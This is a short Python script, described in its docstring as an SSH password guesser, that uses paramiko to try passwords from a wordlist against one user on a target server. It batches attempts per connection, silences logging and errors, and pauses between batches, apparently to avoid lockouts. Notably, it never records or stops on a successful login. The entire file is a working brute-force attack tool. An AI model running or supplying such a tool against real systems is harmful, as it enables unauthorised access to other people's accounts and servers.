"""Guesses SSH passwords with paramiko: `sshguess.py SERVER USER WORDS PAUSE TRIES_PER_CONNECTION`."""
import itertools, logging, sys, time
import paramiko

server, user, words, pause, tries = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4]), int(sys.argv[5])
logging.getLogger("paramiko").setLevel(logging.CRITICAL)
passwords = (line.strip() for line in open(words))
while True:
    batch = list(itertools.islice(passwords, tries))
    if not batch:
        break
    try:
        wire = paramiko.Transport((server, 22))
        wire.start_client(timeout=10)
        for password in batch:
            try:
                wire.auth_password(user, password)
            except paramiko.AuthenticationException:
                pass
    except (paramiko.SSHException, OSError, EOFError):
        pass
    finally:
        try:
            wire.close()
        except NameError:
            pass
    time.sleep(pause)
